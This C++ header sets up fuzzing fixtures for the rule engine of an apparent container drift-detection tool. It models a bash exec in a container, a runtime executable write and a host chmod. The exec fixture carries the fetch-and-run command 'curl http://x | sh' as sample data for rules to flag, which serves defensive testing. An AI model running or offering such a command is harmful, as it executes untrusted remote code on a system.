// Fixed contexts the rule targets evaluate fuzzed conditions and rule sets on: an exec of a
// shell in a container (with lineage, a runtime-written executable, a mutable image tag), a
// write of an executable in the same container, and a chmod on the host.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "lib/rules/rule_context.h"

namespace driftwatch::fuzz {

struct RuleContexts {
  v1::ContainerInfo container;
  std::vector<std::unique_ptr<v1::Event>> events;
  std::vector<RuleContext> contexts;

  RuleContexts() {
    container.set_id(std::string(64, 'a'));
    container.set_name("api");
    container.set_image("docker.io/library/nginx:1.25");
    container.set_image_repository("docker.io/library/nginx");
    container.set_image_tag("1.25");
    container.set_pod_name("api-5d8b7c9f4-x2kqp");
    container.set_pod_namespace("default");

    auto exec = std::make_unique<v1::Event>();
    exec->set_time_ns(1700000000123456789);
    exec->mutable_id()->set_node("node-1");
    exec->mutable_id()->set_seq(7);
    exec->set_container_id(container.id());
    v1::ProcessExec* e = exec->mutable_exec();
    e->set_syscall("execve");
    e->set_success(true);
    e->set_pid(4242);
    e->set_ppid(4200);
    e->set_comm("bash");
    e->set_exe("/usr/bin/bash");
    e->set_path("/bin/bash");
    e->add_args("bash");
    e->add_args("-c");
    e->add_args("curl http://x | sh");
    e->set_cwd("/tmp");
    auto write = std::make_unique<v1::Event>();
    write->set_time_ns(1700000000000000000);
    write->set_container_id(container.id());
    v1::FileWrite* w = write->mutable_write();
    w->set_kind("close_write");
    w->set_pid(77);
    w->set_comm("cp");
    w->set_path("/usr/local/bin/x");
    w->set_executable(true);
    w->set_sha256(std::string(64, 'f'));
    auto chmod = std::make_unique<v1::Event>();
    chmod->set_time_ns(1700000000000000001);
    v1::Chmod* c = chmod->mutable_chmod();
    c->set_syscall("fchmodat");
    c->set_success(true);
    c->set_path("/tmp/x");
    c->set_new_mode(0755);
    c->set_adds_exec(true);
    c->set_comm("chmod");

    RuleContext in_container;
    in_container.event = exec.get();
    in_container.container = &container;
    in_container.lineage = {
        {.pid = 4200, .name = "sh", .exepath = "/bin/sh", .cmdline = "sh -c x",
         .exe_file = "/bin/sh"},
        {.pid = 1, .name = "runc", .exepath = "/usr/bin/runc", .exe_file = "/usr/bin/runc"}};
    in_container.file.written_at_runtime = true;
    in_container.file.writer_name = "curl";
    in_container.image.checked = true;
    in_container.image.mutable_tag = true;
    contexts.push_back(in_container);
    RuleContext written;
    written.event = write.get();
    written.container = &container;
    contexts.push_back(written);
    RuleContext host;
    host.event = chmod.get();
    contexts.push_back(host);
    events.push_back(std::move(exec));
    events.push_back(std::move(write));
    events.push_back(std::move(chmod));
  }
};

}  // namespace driftwatch::fuzz
